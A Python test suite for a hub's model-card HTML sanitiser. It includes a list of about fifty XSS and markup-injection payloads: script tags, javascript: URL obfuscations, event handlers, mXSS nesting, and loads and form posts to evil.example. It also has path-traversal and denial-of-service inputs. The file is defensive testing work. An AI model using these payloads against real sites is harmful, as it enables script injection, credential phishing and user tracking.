"""Cards as HTML: what readers get, and what hostile authors do not get."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.cards import render_card, render_markdown
from hub.cards.render import ATTRIBUTES, TAGS

FORBIDDEN_SCHEMES = ("javascript:", "vbscript:", "file:", "blob:")


class Elements(HTMLParser):
    """All elements of a page as (tag, attributes)."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def render(text):
    return render_card(text, repo_path="/ns/name", revision="abc123")


def elements(text, tag):
    return [attrs for name, attrs in Elements(render(text)).found if name == tag]


def assert_safe(html):
    for tag, attrs in Elements(html).found:
        assert tag in TAGS
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert attrs.keys() <= allowed
        for name in ("href", "src"):
            value = "".join((attrs.get(name) or "").split()).lower()
            assert not value.startswith(FORBIDDEN_SCHEMES)
            if value.startswith("data:"):
                assert name == "src"
                assert value.startswith("data:image/")
            if name == "src":
                assert not value.startswith(("http", "//"))
        assert (attrs.get("id") or "user-content-").startswith("user-content-")


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/png;base64,AAAA'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](//evil.example/pixel.png)",
    "![x](https://evil.example/pixel.png)",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='\\\\evil.example/pixel.png'>",
    "<img src='/\\evil.example/pixel.png'>",
    "<img src='h\nttps://evil.example/pixel.png'>",
    "<img srcset='https://evil.example/1x.png 1x'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;top:0;left:0;width:100%'>x</p>",
    "<div class='modal position-fixed top-0 w-100 h-100 btn'>x</div>",
    "<a id='user' name='attributes'>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<video src='https://evil.example/x.mp4' autoplay></video><audio src=x></audio>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='x' onclick='alert(1)' onmouseover=alert(1)>x</a>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markup_comes_out_harmless(text):
    html = render(text)
    assert_safe(html)
    assert "<script" not in html.lower()
    assert "style=" not in html


markup = st.lists(
    st.sampled_from(HOSTILE)
    | st.sampled_from("< > \" ' ` [ ]( ) | &# <!-- --> </ = on load=".split())
    | st.sampled_from(["<a href=", "<img src=", "<div ", "class=x ", "\n\n", "\x00"])
    | st.text(max_size=5),
    max_size=12,
)


@given(markup)
@settings(max_examples=150, deadline=None)
def test_no_mixture_of_hostile_markup_gets_through(parts):
    assert_safe(render("".join(parts)))


def test_front_matter_is_not_shown_and_headings_start_below_the_page_title():
    html = render("---\nlicense: mit\n---\n# One\n## Two\n###### Six\n<h1 align=center>Raw</h1>")
    assert "license" not in html
    assert "<h1" not in html
    assert '<h2 id="user-content-one">One</h2>' in html
    assert '<h3 id="user-content-two">Two</h3>' in html
    assert "<h6" in html
    assert '<h2 align="center">Raw</h2>' in html


@pytest.mark.parametrize(
    ("target", "url"),
    [
        ("docs/a.md", "/ns/name/blob/abc123/docs/a.md"),
        ("./docs/a.md#part", "/ns/name/blob/abc123/docs/a.md#part"),
        ("docs/../b.md", "/ns/name/blob/abc123/b.md"),
        ("../../../etc/passwd", "/ns/name/blob/abc123/etc/passwd"),
        ("docs/", "/ns/name/tree/abc123/docs"),
        ("a%20b.md", "/ns/name/blob/abc123/a%20b.md"),
        ("/datasets/x/y", "/datasets/x/y"),
        ("https://example.org/x", "https://example.org/x"),
        ("mailto:a@example.org", "mailto:a@example.org"),
        ("#part", "#user-content-part"),
        ("//example.org/x", "https://example.org/x"),
    ],
)
def test_links_lead_to_files_of_the_revision(target, url):
    assert elements(f"[x]({target})", "a")[0]["href"] == url


def test_images_lead_to_files_of_the_revision():
    assert elements("![a](img/x.png)", "img")[0]["src"] == "/ns/name/resolve/abc123/img/x.png"
    assert elements('<img src="x.png" width="50%">', "img")[0] == {
        "src": "/ns/name/resolve/abc123/x.png",
        "width": "50%",
    }
    data = "data:image/png;base64,iVBORw0KGgo="
    assert elements(f"![a]({data})", "img")[0]["src"] == data


def test_images_of_other_sites_become_links_and_are_not_loaded():
    html = render("![a badge](https://img.example/badge.svg)")
    assert elements("![a badge](https://img.example/badge.svg)", "img") == []
    assert 'href="https://img.example/badge.svg"' in html
    assert "a badge</a>" in html
    linked = render("[![a badge](https://img.example/b.svg)](https://ci.example)")
    assert linked.count("<a ") == 1
    assert 'href="https://ci.example"' in linked


def test_markdown_in_a_folder_is_relative_to_it():
    html = render_markdown("[x](y.md)", repo_path="/a/b", revision="main", folder="docs")
    assert 'href="/a/b/blob/main/docs/y.md"' in html


def test_tables_task_lists_footnotes_and_code_are_shown():
    html = render(
        "| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\nnote[^n]\n\n[^n]: text\n\n"
        "```python\ndef f(): return 1\n```\n\n~~gone~~"
    )
    assert '<td align="center">1</td>' in html
    assert "☑ done" in html
    assert "☐ open" in html
    assert 'href="#user-content-fn1"' in html
    assert 'id="user-content-fn1"' in html
    assert '<span class="k">def</span>' in html
    assert "<s>gone</s>" in html


def test_classes_of_the_site_cannot_be_worn():
    html = render('<div class="modal position-fixed language-x code">x</div>')
    assert 'class="language-x"' in html


def test_wide_blocks_can_be_scrolled_by_keyboard_and_nothing_else_takes_focus():
    assert elements("```\nx\n```", "pre") == [{"tabindex": "0"}]
    assert elements("|a|\n|-|\n|1|", "table") == [{"tabindex": "0"}]
    assert "tabindex" not in render('<p tabindex="1">x</p><table tabindex="5"></table>')


@pytest.mark.parametrize(
    "text",
    [
        "- " * 20_000,
        "> " * 20_000,
        "".join("  " * n + "- x\n" for n in range(2000)),
        "[" * 50_000,
        "![" * 20_000,
        "*a _b " * 20_000,
        "<div>" * 20_000,
        "`" * 50_000 + "x",
        "|" * 5000 + "\n" + "-|" * 5000,
        "```python\n" + "(" * 100_000 + "\n```",
        "[^1]" * 5000 + "\n\n[^1]: x",
        "# a\n" * 5000,
        "&" * 100_000,
        "x" * 2_000_000,
    ],
)
def test_long_and_deep_texts_take_no_long_time(text):
    started = time.process_time()
    assert_safe(render(text))
    assert time.process_time() - started < 5
